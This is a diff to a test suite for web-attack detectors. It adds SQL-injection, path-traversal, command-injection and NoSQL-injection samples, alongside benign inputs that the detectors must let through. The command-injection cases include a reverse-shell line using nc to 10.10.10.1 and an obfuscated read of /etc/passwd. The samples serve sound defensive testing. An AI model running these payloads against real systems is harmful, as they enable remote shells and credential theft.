@@ -40,10 +40,10 @@ function recall(name: string, label: string): { hit: number; total: number } {
  */
 describe('detectors against the labelled corpus', () => {
   it.each([
-    ['sqli', 'sqli', 0.83],
+    ['sqli', 'sqli', 0.92],
     ['xss', 'xss', 0.97],
-    ['path_traversal', 'lfi', 0.65],
-    ['cmdi', 'rce', 0.7],
+    ['path_traversal', 'lfi', 0.69],
+    ['cmdi', 'rce', 0.79],
     ['jndi', 'log4shell', 1],
     ['ssrf', 'ssrf', 0.75],
     ['code_injection', 'java-injection', 0.7],
@@ -95,7 +95,35 @@ describe('sqli detector', () => {
     expect(detectSqlInjection(value)).toBe(shape);
   });
 
-  it.each(["o'reilly", 'union station', 'drop shipping', 'select a color from the list', "1950's dresses", "y'all come back now", 'rock & roll', 'size 10 or 12'])('passes %s', (value) => {
+  it.each([
+    ['1=1', 'numeric tautology'],
+    ['b,1=1', 'numeric tautology'],
+    ['11!=1', 'numeric tautology'],
+    ["';", 'quote probe'],
+    ["';print'", 'stacked print'],
+    [';truncate[xx', 'stacked truncate statement'],
+    [') like (', 'closed parenthesis then condition'],
+    ["' or abc!", 'quote then or'],
+    ['or 88', 'leading or'],
+    ['select pg_sleep', 'select statement'],
+    ['except values(1,2)', 'except values'],
+    ['2 union all', 'union after a comment'],
+    ['xunionselectfrom', 'union select without spaces'],
+    ['9999 or {if length((/*!5000select username/*!comment*/', 'mysql executable comment'],
+    ["'{\"a\":2}' < '$.c[2].f' = 7", 'chained comparison'],
+    ['selectchar(', 'selectchar( probe'],
+    ['distinct(', 'distinct( probe'],
+    ['select $.`` 1.e.table_name', 'select statement'],
+    ['2.2250738585072011e-308', 'floating-point parser denial of service constant'],
+  ])('finds the probe %s', (value, shape) => {
+    expect(detectSqlInjection(value)).toBe(shape);
+  });
+
+  it.each([
+    "o'reilly", 'union station', 'drop shipping', 'select a color from the list', "1950's dresses", "y'all come back now", 'rock & roll',
+    'size 10 or 12', '2+2=4', 'or 3 more', "don't stop believin'", 'order by price', 'print this page', 'sleep well', "it's 5 o'clock",
+    '1 or 2 bedrooms', '50/50', '6\'2" tall', 'x > 5 and y < 10',
+  ])('passes %s', (value) => {
     expect(detectSqlInjection(value)).toBeUndefined();
   });
 });
@@ -121,6 +149,14 @@ describe('path traversal detector', () => {
 
   it('finds a dot-dot segment in the path', () => {
     expect(detectPathTraversal('/static/%2e%2e/app.js', '/static/../app.js')).toContain('parent-directory segment');
+  });
+
+  it('finds a hand-encoded question mark ending the query', () => {
+    expect(detects('path_traversal', { 'http.request.method': 'GET', 'url.path': '/bar/bar', 'url.query': 'foobar=toto%3f' })).toContain('question mark ending the query');
+  });
+
+  it('passes a browser-encoded question ending the query', () => {
+    expect(detects('path_traversal', { 'http.request.method': 'GET', 'url.path': '/search', 'url.query': 'q=why%3F' })).toBeUndefined();
   });
 
   it('finds a Tomcat path parameter climb', () => {
@@ -156,6 +192,39 @@ describe('cmdi detector', () => {
 
   it('passes a product user agent', () => {
     expect(detectCommandInjection('curl/8.5.0', true)).toBeUndefined();
+  });
+
+  it.each([
+    ['$shell -c "echo hi"', 'command sh'],
+    ['${shell} -c "echo hi"', 'command sh'],
+    ['alias a=b', 'command alias'],
+    ['www.google.com;c$@at+/et$@c/pas$@swd', 'obfuscated command cat'],
+    [';\\n.shell nc 10.10.10.1 6666 -e sh\\n', 'chained command .shell'],
+    ['a; sh$xx -c whoami', 'obfuscated command sh'],
+    ['ping`` 127.0.0.1', 'obfuscated command ping'],
+    ['rc script.sh', 'command rc'],
+    ['aa-disable php-fpm', 'command aa-disable'],
+    ['if "a a" == "a a" echo same', 'batch if comparison'],
+    ['if/i a==b foo', 'batch if comparison'],
+    ['~+', 'tilde expansion'],
+  ])('finds %s', (value, found) => {
+    expect(detectCommandInjection(value)).toBe(found);
+  });
+
+  it.each([['env --version', 'command env'], ['visudo', 'command visudo'], ['nohup ifconfig', 'command ifconfig'], ['code=ansible-console', 'command ansible-console']])('finds the user agent %s', (value, found) => {
+    expect(detectCommandInjection(value, true)).toBe(found);
+  });
+
+  it.each(['wget', 'python-requests/2.32.3', 'Mozilla/5.0 (X11; Linux x86_64)'.toLowerCase()])('passes the user agent %s', (value) => {
+    expect(detectCommandInjection(value, true)).toBeUndefined();
+  });
+
+  it.each(['python3.10 cmd', ';id'])('finds a command in a cmd parameter: %s', (value) => {
+    expect(detectCommandInjection(value, false, 'cmd')).toBeDefined();
+  });
+
+  it.each(['pip install requests', 'ls 400 lexus', 'at the store', 'red; green; blue', 'tom & jerry', 'c++ tutorial', '~5 minutes', 'time who knows'])('passes the text %s', (value) => {
+    expect(detectCommandInjection(value)).toBeUndefined();
   });
 });
 
@@ -201,7 +270,11 @@ describe('nosql detector', () => {
     expect(detectNoSqlInjection(value)).toBeDefined();
   });
 
-  it.each(['$50 off', 'price[min]', '{"name": "bob"}'])('passes %s', (value) => {
+  it('finds a javascript condition on the document', () => {
+    expect(detectNoSqlInjection('2499999||this.product')).toBe('javascript condition on this');
+  });
+
+  it.each(['$50 off', 'price[min]', '{"name": "bob"}', 'this.that || other'])('passes %s', (value) => {
     expect(detectNoSqlInjection(value)).toBeUndefined();
   });
 });
